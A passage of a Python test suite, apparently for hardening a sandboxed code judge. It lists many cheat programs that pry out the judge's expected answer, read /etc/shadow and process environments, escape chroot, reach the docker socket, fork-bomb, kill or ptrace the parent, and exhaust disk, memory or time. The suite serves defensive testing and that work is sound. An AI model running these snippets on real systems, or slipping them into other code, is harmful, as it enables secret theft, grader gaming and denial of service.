        seen.add(id(thing))
        got = right(thing)
        if got: return got
        if isinstance(thing, types.FrameType): todo += [thing.f_locals, thing.f_globals, thing.f_back, thing.f_code]
        if isinstance(thing, types.CodeType): todo += thing.co_consts
        if isinstance(thing, (list, tuple, dict, set, types.FunctionType, types.ModuleType)) or hasattr(thing, '__dict__'):
            todo += gc.get_referents(thing)
    return 0
"""
HEAP_SCAN = r"""
import ctypes, os
def scan(reach=32 << 20):
    libc = ctypes.CDLL(None)
    out, into = os.pipe()
    for base in (id(object()), id('a' * 600), id([0] * 9999), id(os), ctypes.addressof(ctypes.create_string_buffer(9))):
        tail = b''
        for page in range((base - reach) & ~4095, base + reach, 4096):
            if libc.write(into, ctypes.c_void_p(page), ctypes.c_size_t(4096)) != 4096: continue
            data = os.read(out, 4096)
            got = right(tail + data)
            if got: return got
            tail = data[-64:]
    return 0
"""
FILE_SEARCH = r"""
import os
def search(tops, names=lambda name: True, limit=20000):
    for top in tops:
        for folder, folders, files in os.walk(top, onerror=lambda e: None):
            folders[:] = [f for f in folders if not os.path.islink(os.path.join(folder, f))]
            for name in files:
                limit -= 1
                if limit < 0: return 0
                if not names(name): continue
                try:
                    fd = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
                    data = os.read(fd, 1 << 16); os.close(fd)
                except Exception: continue
                got = right(data)
                if got: return got
    return 0
"""
SPYING = {
    "frames upward": ("", "import sys\nreturn dig([sys._getframe()])"),
    "frames of a traceback": ("", "try: 1 / 0\nexcept Exception as e:\n    return dig([e.__traceback__.tb_frame])"),
    "frames of all threads": ("", "import sys\nreturn dig(sys._current_frames().values())"),
    "frames by inspect": ("", "import inspect\nreturn dig(inspect.stack())"),
    "frame of a generator": ("", "g = (g.gi_frame.f_back for _ in [0])\nreturn dig([next(g)])"),
    "garbage collector": ("", "import gc\nreturn dig(gc.get_objects())"),
    "modules": ("", "import sys\nreturn dig(list(sys.modules.values()))"),
    "referrers of the argument": ("", "import gc\nreturn dig(gc.get_referrers(args, *args))"),
    "referrers of the function": ("", "import gc\nreturn dig(gc.get_referrers(riddle))"),
    "attributes of the arguments": ("", "return dig([x for a in args for x in map(a.__getattribute__, dir(a))])"),
    "main module": ("", "import __main__\nreturn dig([__main__, vars(__main__)])"),
    "subclasses of object": ("", "return dig(object.__subclasses__())"),
    "interned strings": ("", "import sys, gc\nreturn dig([r for o in gc.get_objects() for r in gc.get_referents(o)])"),
    "unfinished threads": ("", "import threading\nreturn dig(threading.enumerate())"),
    "source by linecache": ("", "import linecache\nreturn dig(linecache.cache.values())"),
    "own memory": (HEAP_SCAN, "return scan()"),
    "memory by proc": ("", "return right(open('/proc/self/mem', 'rb').read(1)) or dig([open('/proc/self/maps').read()])"),
    "command lines": (FILE_SEARCH, "return search(['/proc'], lambda n: n in ('cmdline', 'environ'))"),
    "files": (FILE_SEARCH, "return search(['.', '..', '/tmp', '/var/tmp', '/dev/shm', '/run', '/root', '/home'])"),
    "file of the program": (FILE_SEARCH, "import os, sys\nreturn search({os.path.dirname(p) or '.' for p in "
                            "[__file__, sys.argv[0], *sys.path]})"),
    "compiled checks": (FILE_SEARCH, "return search(['/usr', '/opt'], lambda n: 'check' in n or 'judge' in n)"),
    "descriptors": ("", "import os\nfor fd in range(1024):\n    try:\n        os.set_blocking(fd, False)\n"
                    "        data = os.read(fd, 65536)\n    except OSError: continue\n    got = right(data)\n"
                    "    if got: return got"),
    "descriptors from the start": ("", "import os\nfor fd in range(1024):\n    try: data = os.pread(fd, 65536, 0)\n"
                                   "    except OSError: continue\n    got = right(data)\n    if got: return got"),
    "peeking into sockets": ("", "import socket\nfor fd in range(1024):\n    try:\n"
                             "        got = right(socket.socket(fileno=fd).recv(9999, socket.MSG_PEEK | 64))\n"
                             "    except OSError: continue\n    if got: return got"),
    "parent's memory": ("", "import ctypes, os\nlibc = ctypes.CDLL(None)\nbuffer = ctypes.create_string_buffer(65536)\n"
                        "io = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 65536)\n"
                        "far = (ctypes.c_void_p * 2)(id(args) & ~4095, 4096)\n"
                        "if libc.process_vm_readv(os.getppid(), io, 1, far, 1, 0) > 0: return 'HARM: parent read'"),
    "core dump": ("", "import os, resource\nresource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))\nos.abort()"),
    "errors of the judge": ("", "class Bad(int):\n    def __eq__(self, other): raise ValueError('HARM: %r' % other)\n"
                            "    __ne__ = __sub__ = __rsub__ = __lt__ = __eq__\nreturn Bad()"),
    "comparison that listens": ("", "class Ear(list):\n    def __eq__(self, other): self[:] = other; return True\n"
                                "return Ear()"),
    "waiting for the expected value": ("", "import gc, time\ntime.sleep(0.3)\nreturn dig(gc.get_objects())"),
    "callback's insides": ("", "return dig([a for a in args if callable(a)])"),
    "finaliser that digs": ("", "class Late:\n    def __del__(self):\n        import gc\n        print(dig(gc.get_objects()))\n"
                            "Late()\nreturn 0"),
}  # fmt: skip

SECRETS = {
    "environment": "import os\nfound = {n: v for n, v in os.environ.items()}",
    "environment in C": "import ctypes\nfound, i = [], 0\n"
    "pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\n"
    "while pointers and pointers[i]: found.append(pointers[i]); i += 1",
    "environment of processes": "import glob\nfound = [open(f, 'rb').read() for f in glob.glob('/proc/[0-9]*/environ')]",
    "canary file": "found = open('@CANARY_FILE@').read()",
    "canary file through scratch": "import os\nos.symlink('@CANARY_FILE@', 'way')\nfound = open('way').read()",
    "canary file by hard link": "import os\nos.link('@CANARY_FILE@', 'way')\nfound = open('way').read()",
    "canary file upwards": "found = open('../' * 40 + '@CANARY_FILE@').read()",
    "canary file through root of proc": "found = open('/proc/1/root@CANARY_FILE@').read()",
    "canary file through working directory": "found = open('/proc/self/cwd/' + '../' * 40 + '@CANARY_FILE@').read()",
    "canary file by an old directory": "import os\nfound = ''\nfor fd in range(1024):\n    try:\n"
    "        found += open(os.open('../' * 40 + '@CANARY_FILE@', 0, dir_fd=fd)).read()\n    except OSError: pass",
    "canary file after chroot": "import os\nos.mkdir('cage')\nos.chroot('cage')\nos.chdir('../' * 40)\nos.chroot('.')\n"
    "found = open('@CANARY_FILE@').read()",
    "passwords": "found = open('/etc/passwd').read()\nif ':/' in found: raise RuntimeError('HARM: ' + found[:200])",
    "shadow": "found = 'HARM: ' + open('/etc/shadow').read()",
    "home": "import os, sys\npython = os.path.realpath(sys.base_prefix).split('/')\n"
    "found = {h: set(os.listdir(h)) - set(python) for h in ('/root', '/home') if os.path.isdir(h)}\n"
    "if any(found.values()): raise RuntimeError('HARM: %r' % found)",
    "kernel's files": "found = open('/sys/kernel/mm/transparent_hugepage/enabled').read(), open('/proc/version').read()\n"
    "raise RuntimeError('HARM: %r' % (found,))",
    "block devices": "import os\nfor name in ('vda', 'sda', 'nvme0n1', 'mem', 'kmsg'):\n"
    "    try: os.open('/dev/' + name, 0)\n    except OSError: continue\n    raise RuntimeError('HARM: ' + name)\nfound = 0",
    "mounts": "found = open('/proc/self/mountinfo').read()\nraise RuntimeError('HARM: ' + found)",
    "repository": "import os, sys\nfound = [p for p in sys.path if os.path.isdir(os.path.join(p, 'regreen'))]\n"
    "if found: raise RuntimeError('HARM: %r' % found)",
    "other programs' names": "import os\nfound = [n for n in os.listdir('/proc') if n.isdigit()]\n"
    "if len(found) > 3: raise RuntimeError('HARM: %r' % found)",
    "docker's socket": "import os\nos.stat('/var/run/docker.sock')\nraise RuntimeError('HARM: docker')",
    "user's name": "import pwd, os\nfound = pwd.getpwuid(os.getuid())\n"
    "if found.pw_dir == '/root': raise RuntimeError('HARM: %r' % (found,))",
    "writing to the library": "import os\nname = os.path.join(os.path.dirname(os.__file__), 'mark.py')\n"
    "open(name, 'w').close()\nos.remove(name)\nraise RuntimeError('HARM: the library can be written')",
    "writing bytecode": "import os, importlib.util\n"
    "name = os.path.join(os.path.dirname(importlib.util.cache_from_source(os.__file__)), 'mark.pyc')\n"
    "open(name, 'w').close()\nos.remove(name)\nraise RuntimeError('HARM: bytecode can be written')",
    "times of the library": "import os\ns = os.stat(os.__file__)\nos.utime(os.__file__, ns=(s.st_atime_ns, s.st_mtime_ns))\n"
    "raise RuntimeError('HARM: file times can be set')",
    "modes of the library": "import os\nos.chmod(os.__file__, os.stat(os.__file__).st_mode & 0o7777)\n"
    "raise RuntimeError('HARM: file modes can be set')",
    "modes of the library by descriptor": "import os\nfd = os.open(os.__file__, os.O_RDONLY)\n"
    "os.fchmod(fd, os.fstat(fd).st_mode & 0o7777)\nraise RuntimeError('HARM: file modes can be set')",
    "owner of the library": "import os\ns = os.stat(os.__file__)\nos.chown(os.__file__, s.st_uid, s.st_gid)\n"
    "raise RuntimeError('HARM: file owners can be set')",
    "attributes of the library": "import os\nos.setxattr(os.__file__, 'user.mark', b'x')\nos.removexattr(os.__file__, 'user.mark')\n"
    "raise RuntimeError('HARM: file attributes can be set')",
    "name of the host": "import ctypes, os\nname = os.uname().nodename.encode()\n"
    "if ctypes.CDLL(None).sethostname(name, len(name)) == 0: raise RuntimeError('HARM: host name can be set')\nfound = 0",
    "writing to the host": "open('@CANARY_FILE@', 'r+').write('x')\nraise RuntimeError('HARM: host file written')",
    "removing from the host": "import os\nos.unlink('@CANARY_FILE@')\nraise RuntimeError('HARM: host file removed')",
    "making in the host's root": "import os\nos.mkdir('/mark')\nos.rmdir('/mark')\nfound = 0",
}

SPIES = [
    *(
        Cheat(f"spies: {what}", "leak", "Find the expected value and return it.",
              RECOGNISE + before + _riddle(code), (CALLBACK,) if "callback" in what else (STRING, LOOP))
        for what, (before, code) in SPYING.items()
    ),
    *(
        Cheat(f"spies at import: {what}", "leak", "Find the expected output and print it.",
              RECOGNISE + before + _riddle(code) + "print(riddle(1))\n", (LINES,))
        for what, (before, code) in SPYING.items()
    ),
    *(
        Cheat(f"secret: {what}", "secret", "Read or change what belongs to the host.",
              code + "\nprint(found)\n" + _riddle("return found"), (INTEGER, LINES))
        for what, code in SECRETS.items()
    ),
]  # fmt: skip

# ---- marks left for the next program ----

MARKS = {
    "files": "import os, tempfile\nfor d in ('.', '/tmp', '/var/tmp', '/dev/shm', '/run', tempfile.gettempdir(), "
    "os.path.expanduser('~')):\n    try: open(d + '/mark', 'w').write('x')\n    except OSError: pass",
    "read-only folder": "import os\nos.makedirs('mark/deep')\nopen('mark/deep/f', 'w').close()\n"
    "os.chmod('mark/deep', 0)\nos.chmod('mark', 0)",
    "deep folders": "import os\nfor _ in range(3000):\n    os.mkdir('mark'); os.chdir('mark')",
    "odd names": "import os\nfor n in (b'\\xff\\xfemark', b'mark\\n', b'-rf mark', b'mark' * 60):\n    open(n, 'w').close()",
    "link to the host": "import os\nos.symlink(os.path.dirname('@CANARY_FILE@'), 'mark')\nos.symlink('/', 'root mark')",
    "link loop": "import os\nos.symlink('mark', 'mark')\nos.symlink('.', 'mark2')",
    "named pipe": "import os\nos.mkfifo('mark')",
    "socket file": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('mark')",
    "open deleted file": "import os\nfd = os.open('mark', 66)\nos.unlink('mark')\nos.link(f'/proc/self/fd/{fd}', 'mark2')",
    "scratch removed": "import os, shutil\nhere = os.getcwd()\nos.chdir('/')\nshutil.rmtree(here)\nos.rmdir(here)",
    "scratch replaced": "import os\nhere = os.getcwd()\nos.rename(here, here + '-mark')\nos.mkdir(here)",
    "scratch closed": "import os\nos.chmod('.', 0)",
    "attributes": "import os\nopen('mark', 'w').close()\nos.setxattr('mark', 'user.mark', b'x')\n"
    "import fcntl, struct\nfcntl.ioctl(open('mark'), 0x40086602, struct.pack('l', 0x10))",
    "modules": "import sys, builtins, types\nsys.modules['mark'] = types.ModuleType('mark')\nbuiltins.mark = 1",
    "environment": "import os\nos.environ['MARK'] = '1'\nos.putenv('MARK', '1')",
    "masked signals": "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n"
    "signal.signal(signal.SIGUSR1, signal.SIG_IGN)",
    "priority": "import os\nfor kind in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER)[:3 if os.getpid() < 9 else 2]:\n"
    "    try: os.setpriority(kind, 0, 19)\n    except OSError: pass",
    "shared memory": "import ctypes\nctypes.CDLL(None).shmget(0x6d61726b, 4096, 0o1666)",
    "message queue": "import ctypes\nctypes.CDLL(None).msgget(0x6d61726b, 0o1666)",
    "posix shared memory": "from multiprocessing import shared_memory\nshared_memory.SharedMemory('mark', True, 4096)",
    "posix message queue": "import ctypes\nctypes.CDLL(None).mq_open(b'/mark', 66, 0o666, 0)",
    "key": "import ctypes\nlibc = ctypes.CDLL(None)\nfor ring in (-4, -3, -5):\n"
    "    libc.syscall(248, b'user', b'mark', b'x', 1, ring)",
    "abstract socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0mark')\ns.listen()",
    "limits of the parent": "import resource, os\nresource.prlimit(os.getppid() or 1, resource.RLIMIT_NOFILE, (3, 3))",
    "limits of its own": "import resource\nfor r in (0, 1, 2, 3, 6, 7, 9):\n"
    "    try: resource.setrlimit(r, (0, 0))\n    except Exception: pass",
    "affinity of the parent": "import os\nos.sched_setaffinity(os.getppid() or 1, {0})",
    "seals": EVERY + "import fcntl\nevery(lambda fd: fcntl.fcntl(fd, 1033, 15))",
    "file locks and leases": EVERY + "import fcntl\nevery(lambda fd: fcntl.fcntl(fd, 1024, 1))\n"
    "every(lambda fd: fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB))",
    "timer": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.4, 0.4)\nsignal.setitimer(signal.ITIMER_PROF, 0.4)",
    "file mask and folder": "import os\nos.umask(0o777)\nos.chdir('/')",
}

MARKERS = [
    Cheat(
        f"mark: {what}", "mark", "Leave something for the next program.", code + "\n" + _riddle("return 0"), (INTEGER,)
    )
    for what, code in MARKS.items()
] + [
    Cheat(
        f"mark in standard input: {what}",
        "mark",
        "Leave something for the next case.",
        MARKS[what] + "\n",
        (TWO_CASES,),
    )
    for what in ("files", "read-only folder", "deep folders", "scratch removed", "scratch closed", "link to the host")
]

# ---- disk, processes, signals ----

DISK = {
    "one big file": "f = open('big', 'wb')\nfor n in range(2048): f.write(bytes(1 << 20))\n"
    "f.flush()\nraise RuntimeError('HARM: 2 GiB on disk')",
    "many files": "import os\nfor n in range(300000): os.close(os.open('f%d' % n, 66))\nraise RuntimeError('HARM: 300,000 files')",
    "many folders": "import os\nfor n in range(300000): os.mkdir('f%d' % n)\nraise RuntimeError('HARM: 300,000 folders')",
    "many big files": "for n in range(2048): open('f%d' % n, 'wb').write(bytes(1 << 20))\nraise RuntimeError('HARM: 2 GiB')",
    "reserved space": "import os\nfor n in range(64): os.posix_fallocate(os.open('f%d' % n, 66), 0, 1 << 26)\n"
    "raise RuntimeError('HARM: 4 GiB')",
    "sparse file": "import os\nos.truncate(os.open('f', 66), 1 << 40)\nraise RuntimeError('HARM: 1 TiB file')",
    "memory file": "import os\nfd = os.memfd_create('m')\nfor n in range(3072): os.write(fd, bytes(1 << 20))\n"
    "raise RuntimeError('HARM: 3 GiB in a memory file')",
    "links": "import os\nopen('f', 'w').close()\nfor n in range(60000): os.link('f', 'l%d' % n)",
}  # fmt: skip

BIRTH = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None)
def born(pid):
    if pid == 0:
        libc.prctl(15, b'regreen-cheat', 0, 0, 0)
        time.sleep(4)
        os._exit(0)
    if pid > 0: print('HARM: a process was made', flush=True)
"""
BIRTHS = {
    "fork bomb": "for _ in range(99): born(os.fork())",
    "daemon": "if os.fork() == 0:\n    os.setsid()\n    born(os.fork())\n    os._exit(0)",
    "vfork": "born(libc.vfork())",
    "clone by system call": "born(libc.syscall(56, 17, 0, 0, 0, 0))",
    "clone into new namespaces": "born(libc.syscall(56, 0x10000000 | 0x20000000 | 17, 0, 0, 0, 0))",
    "clone that shares memory": "born(libc.syscall(56, 0x100 | 0x4000 | 17, 0, 0, 0, 0))",
    "clone that shares its parent": "born(libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0))",
    "clone as the judge would": "born(libc.syscall(56, 0x20000000 | 17, 0, 0, 0, 0))\n"
    "for flags in range(0x01000000, 0x80000000, 0x01000000): born(libc.syscall(56, flags & ~0x10000 | 17, 0, 0, 0, 0))",
    "clone without a signal": "born(libc.syscall(56, 0, 0, 0, 0, 0))",
    "clone3": "args = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)\nborn(libc.syscall(435, args, 88))",
    "fork by system call": "born(libc.syscall(57))",
    "fork in 32 bits": "import mmap\ncode = mmap.mmap(-1, 4096, prot=7)\ncode.write(b'\\xb8\\x02\\0\\0\\0\\xcd\\x80\\x48\\x98\\xc3')\n"
    "address = ctypes.addressof(ctypes.c_char.from_buffer(code))\nborn(ctypes.CFUNCTYPE(ctypes.c_long)(address)())",
    "fork in the x32 table": "born(libc.syscall(57 | 0x40000000))",
    "posix_spawn": "if os.posix_spawn('/bin/sh', ['sh', '-c', 'sleep 4'], {}): print('HARM: spawned')",
    "subprocess": "import subprocess\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(4)'])\n"
    "print('HARM: spawned')",
    "system": "if os.system('true') == 0: print('HARM: a shell ran')",
    "multiprocessing": "import multiprocessing as m\nm.get_context('fork').Process(target=time.sleep, args=(4,)).start()\n"
    "print('HARM: forked')",
    "forkserver": "import multiprocessing as m\nm.get_context('forkserver').Process(target=time.sleep, args=(4,)).start()",
    "process pool": "from concurrent.futures import ProcessPoolExecutor\nprint('HARM', ProcessPoolExecutor(1).submit(int).result())",
    "pty": "import pty\npid, fd = pty.fork()\nborn(pid)",
    "execveat": "libc.syscall(322, -100, b'/bin/true', None, None, 0)",
    "exec of a memory file": "fd = os.memfd_create('x')\nos.write(fd, b'#!/bin/true\\n')\nos.execve(fd, ['x'], {})",
}

AIM = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None)
def careful():
    # Where the program is no first process of a namespace, only refused signals are sent in earnest.
    if os.getpid() > 9:
        try: os.kill(os.getppid(), 0)
        except PermissionError: return
        raise RuntimeError('HARM: may signal its parent')
def hit(result):
    if result == 0: print('HARM: a signal was sent', flush=True)
careful()
"""
KILLS = {
    "everyone": "os.kill(-1, signal.SIGKILL)",
    "init": "os.kill(1, signal.SIGKILL)",
    "parent": "os.kill(os.getppid(), signal.SIGKILL)",
    "own group": "os.kill(0, signal.SIGTERM)",
    "group of the parent": "os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)",
    "tgkill": "hit(libc.syscall(234, os.getppid(), os.getppid(), 9))",
    "tkill": "hit(libc.syscall(200, os.getppid() or 2, 9))",
    "sigqueue": "hit(libc.sigqueue(os.getppid() or 2, 9, 0))",
    "pidfd": "fd = os.pidfd_open(os.getppid() or 2)\nhit(libc.syscall(424, fd, 9, None, 0))",
    "all numbers": "for pid in range(2, 70000):\n    if pid != os.getpid():\n        try: os.kill(pid, 0)\n"
    "        except OSError: continue\n        raise RuntimeError('HARM: may signal %d' % pid)",
    "descriptor's owner": "import fcntl\nr, w = os.pipe()\nfcntl.fcntl(r, fcntl.F_SETOWN, os.getppid() or 1)\n"
    "fcntl.fcntl(r, 10, 9)\nfcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)\nos.write(w, b'x')",
    "descriptor's owner by ioctl": "import fcntl, struct\nif os.getppid():\n    r, w = os.pipe()\n"
    "    for request in (0x8901, 0x8902):\n        try: fcntl.ioctl(r, request, struct.pack('i', os.getppid()))\n"
    "        except OSError: continue\n        print('HARM: the parent owns a descriptor')",
    "descriptor's owner, extended": "import fcntl, struct\nif os.getppid():\n    r, w = os.pipe()\n"
    "    fcntl.fcntl(r, 15, struct.pack('ii', 1, os.getppid()))\n    print('HARM: the parent owns a descriptor')",
    "priority of the parent": "if os.getppid():\n"
    "    os.setpriority(os.PRIO_PROCESS, os.getppid(), os.getpriority(os.PRIO_PROCESS, os.getppid()))\n"
    "    print('HARM: the parent was slowed')",
    "input and output priority of the parent": "if os.getppid(): hit(libc.syscall(251, 1, os.getppid(), 0x4004))",
    "scheduler of the parent": "if os.getppid():\n"
    "    os.sched_setscheduler(os.getppid(), os.SCHED_OTHER, os.sched_param(0))\n    print('HARM: the parent was rescheduled')",
    "processors of the parent": "if os.getppid():\n"
    "    os.sched_setaffinity(os.getppid(), os.sched_getaffinity(0))\n    print('HARM: the parent was moved')",
    "limits of the parent": "import resource\nif os.getppid():\n"
    "    limits = resource.prlimit(os.getppid(), resource.RLIMIT_CORE)\n"
    "    resource.prlimit(os.getppid(), resource.RLIMIT_CORE, limits)\n    print('HARM: the parent was limited')",
    "death signal": "libc.prctl(1, 9, 0, 0, 0)",
    "limits that kill": "import resource\nresource.prlimit(os.getppid() or 2, resource.RLIMIT_CPU, (1, 1))",
    "orphan reaper": "libc.prctl(36, 1, 0, 0, 0)\nprint(os.waitpid(-1, 0))",
    "trace me": "if libc.ptrace(0, 0, 0, 0) == 0: print('HARM: ptrace')",
    "attach": "if libc.ptrace(16, os.getppid() or 2, 0, 0) == 0: print('HARM: ptrace')",
    "seize": "if libc.ptrace(0x4206, os.getppid() or 2, 0, 0) == 0: print('HARM: ptrace')",
    "write to the parent": "b = ctypes.create_string_buffer(8)\nio = (ctypes.c_void_p * 2)(ctypes.addressof(b), 8)\n"
    "if libc.process_vm_writev(os.getppid() or 2, io, 1, io, 1, 0) > 0: print('HARM: parent written')",
}

HARMS = [
    *(
        Cheat(f"disk: {what}", "disk", "Fill the disk.", code + "\n" + _riddle("return 0"), (INTEGER,), hasty=True)
        for what, code in DISK.items()
    ),
    *(
        Cheat(f"process: {what}", "process", "Make a process that is not watched.",
              BIRTH + code + "\n" + _riddle("return 0"), (INTEGER, LINES))
        for what, code in BIRTHS.items()
    ),
    *(
        Cheat(f"kill: {what}", "kill", "Hit another process.", AIM + code + "\n" + _riddle("return 0"), (INTEGER, LINES))
        for what, code in KILLS.items()
    ),
    Cheat("kill: stop itself", "kill", "Stop so that nobody is told.",
          "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nimport time\ntime.sleep(99)", (INTEGER, LINES), hasty=True),
    Cheat("kill: in the call", "kill", "Hit another process while the judge waits.",
          AIM + _riddle("os.kill(-1, signal.SIGKILL)\nreturn 0"), (INTEGER, LOOP)),
]  # fmt: skip

# ---- time ----

ENDLESS = {
    "busy loop": "while True: pass",
    "busy loop that swallows": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "sum in C": "sum(range(10 ** 14))",
    "power in C": "10 ** 10 ** 9",
    "shift and multiply": "x = 1 << 10 ** 8\nwhile True: x * x",
    "regular expression": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "hashing": "import hashlib\nhashlib.pbkdf2_hmac('sha256', b'x', b'y', 2 ** 31 - 1)",
    "threads in C": "import hashlib, threading\nwork = lambda: hashlib.pbkdf2_hmac('sha256', b'x', b'y', 2 ** 31 - 1)\n"
    "for _ in range(4): threading.Thread(target=work).start()\nwork()",
    "blocked signals": "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True: pass",
    "ignored signals": "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\nwhile True: pass",
    "handled signals": "import signal\nfor n in (2, 14, 15, 24, 26):\n    signal.signal(n, lambda *a: None)\nwhile True: pass",
    "raised CPU limit": "import resource\ntry: resource.setrlimit(resource.RLIMIT_CPU, (-1, -1))\n"
    "except Exception: pass\nwhile True: pass",
    "system calls": "import os\nwhile True: os.getppid()",
    "sleep": "import time\ntime.sleep(1000)",
    "many sleeps": "import time\nwhile True: time.sleep(0.001)",
    "select": "import select\nselect.select([], [], [])",
    "lock": "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()",
    "empty pipe": "import os\nr, w = os.pipe()\nos.read(r, 1)",
    "event": "import threading\nthreading.Event().wait()",
    "pause": "import signal\nsignal.pause()",
    "pause in C": "import ctypes\nctypes.PyDLL(None).pause()",
    "named pipe": "import os, time\ntry: os.mkfifo('p')\nexcept OSError: time.sleep(1000)\nopen('p')",
    "queue": "import queue\nqueue.Queue().get()",
    "asyncio": "import asyncio\nasyncio.run(asyncio.Event().wait())",
    "sockets": "import socket\na, b = socket.socketpair()\na.recv(1)",
    "iteration without end": "list(iter(int, 1))",
    "a slow key": "min(range(10 ** 9), key=lambda x: sum(range(10 ** 6)))",
}
AT_EXIT = {
    "atexit": "import atexit, time\natexit.register(time.sleep, 1000)",
    "finaliser": "class Late:\n    def __del__(self):\n        while True: pass\nlate = Late()",
    "thread": "import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()",
    "busy thread": "import threading\ndef loop():\n    while True: pass\nthreading.Thread(target=loop).start()",
    "daemon thread": "import threading\ndef loop():\n    while True: pass\nthreading.Thread(target=loop, daemon=True).start()",
    "many threads": "import threading, time\nfor _ in range(10000):\n    threading.Thread(target=time.sleep, args=(30,)).start()",
}

HANGS = [
    *(
        Cheat(f"endless in the call: {what}", "time", "Never return.", _riddle(code), (INTEGER,), BROKEN_OFF, hasty=True)
        for what, code in ENDLESS.items()
    ),
    *(
        Cheat(f"endless at import: {what}", "time", "Never finish importing.", ENDLESS[what], (LOOP, LINES), BROKEN_OFF,
              hasty=True)
        for what in ("busy loop", "sum in C", "blocked signals", "sleep", "threads in C", "pause in C", "iteration without end")
    ),
    *(
        Cheat(f"endless at exit: {what}", "time", "Never leave.", code + "\nprint(1)\n" + _riddle("return 1"),
              (INTEGER, LINES), hasty=True)
        for what, code in AT_EXIT.items()
    ),
    Cheat("endless error", "time", "Never finish saying what went wrong.",
          "class E(Exception):\n    def __str__(self):\n        while True: pass\n    __repr__ = __str__\n"
          + _riddle("raise E"), (INTEGER, LOOP), hasty=True),
    Cheat("endless value", "time", "Never finish being read.",
          "class V(list):\n    def __iter__(self):\n        while True: yield 1\n    __len__ = lambda self: 1 << 40\n"
          + _riddle("return V()"), (INTEGER, LIST, EQUAL), hasty=True),
    Cheat("endless metaclass", "time", "Never finish telling its type's name.",
          "class M(type):\n    def __getattribute__(cls, name):\n        while True: pass\nclass E(Exception, metaclass=M): pass\n"
          + _riddle("raise E"), (INTEGER,), hasty=True),
]  # fmt: skip

# ---- memory, floods, values ----

MEMORY = {
    "list": "x = [0]\nwhile len(x) < 1 << 29: x += x",
    "bytes": "x = b'x' * (3 << 30)",
    "bytes, little by little": "x = []\nfor _ in range(3072): x.append(bytes(1 << 20) + b'x')",
    "strings": "x = 'ab'\nwhile len(x) < 3 << 30: x += x",
    "dictionary": "x = {n: str(n) for n in range(30 * 10 ** 6)}",
    "mapped": "import mmap\nx = mmap.mmap(-1, 3 << 30)\nfor n in range(0, 3 << 30, 4096): x[n] = 1",
    "mapped and shared": "import mmap\nfor _ in range(48):\n    x = mmap.mmap(-1, 64 << 20)\n    x.write(bytes(64 << 20))\n"
    "    globals().setdefault('keep', []).append(x)",
    "mapped from memory files": "import mmap, os\nkeep = []\nfor _ in range(48):\n    fd = os.memfd_create('m')\n"
    "    os.truncate(fd, 64 << 20)\n    m = mmap.mmap(fd, 64 << 20)\n    m.write(bytes(64 << 20))\n    keep.append(m)",
    "scratch files": "for n in range(3072): open(str(n), 'wb').write(bytes(1 << 20))",
    "pipes": "import os, fcntl\nkeep = []\nfor _ in range(3072):\n    r, w = os.pipe()\n    fcntl.fcntl(w, 1031, 1 << 20)\n"
    "    os.set_blocking(w, False)\n    keep.append(os.write(w, bytes(1 << 20)))",
    "socket buffers": "import socket\nfor _ in range(4000):\n    a, b = socket.socketpair()\n    a.setblocking(False)\n"
    "    a.setsockopt(1, 7, 1 << 20)\n    a.send(bytes(200000))\n    globals().setdefault('keep', []).append((a, b))",
    "thread stacks": "import threading, time\nthreading.stack_size(64 << 20)\nfor _ in range(48):\n"
    "    threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
    "digits": "x = 1 << (3 << 33)",
    "deep recursion": "import sys\nsys.setrecursionlimit(10 ** 9)\nf = lambda n: f(n + 1)\nf(0)",
    "error that holds much": "raise MemoryError(b'x' * (1 << 30))",
}
FLOODS = {
    "standard output": "while True: print('x' * 65536)",
    "standard error": "import sys\nwhile True: sys.stderr.write('x' * 65536)",
    "raw descriptor": "import os\nwhile True: os.write(1, b'x' * 65536)",
    "both in turn": "import os\nwhile True: os.write(1, b'x\\n'); os.write(2, b'y\\n')",
    "threads": "import os, threading\ndef talk():\n    while True: os.write(1, b'x' * 65536)\n"
    "for _ in range(8): threading.Thread(target=talk).start()\ntalk()",
}
FLOODS_OF_ALL = EVERY + "for _ in range(64): every(lambda fd: os.write(fd, b'x' * 65536))"
BIG_VALUES = {
    "huge text": "return 'x' * (300 << 20)",
    "huge text that escapes": "return '\\U0010ffff' * (60 << 20)",
    "huge bytes": "return bytes(300 << 20)",
    "huge list": "return [0] * (50 << 20)",
    "many small objects": "return [[i] for i in range(2 * 10 ** 6)]",
    "deep list": "x = []\nfor _ in range(10 ** 6): x = [x]\nreturn x",
    "deep dictionary": "x = {}\nfor _ in range(10 ** 5): x = {'a': x}\nreturn x",
    "deep tuple": "x = ()\nfor _ in range(10 ** 6): x = (x,)\nreturn x",
    "cyclic list": "x = []\nx.append(x)\nreturn x",
    "cyclic dictionary": "x = {}\nx['a'] = [x, (x, {1: x})]\nreturn x",
    "shared doubling": "x = ['lol']\nfor _ in range(64): x = [x, x]\nreturn x",
    "shared doubling of tuples": "x = (1,)\nfor _ in range(64): x = (x, x)\nreturn x",
    "shared doubling of dictionaries": "x = {}\nfor _ in range(64): x = {'a': x, 'b': x}\nreturn x",
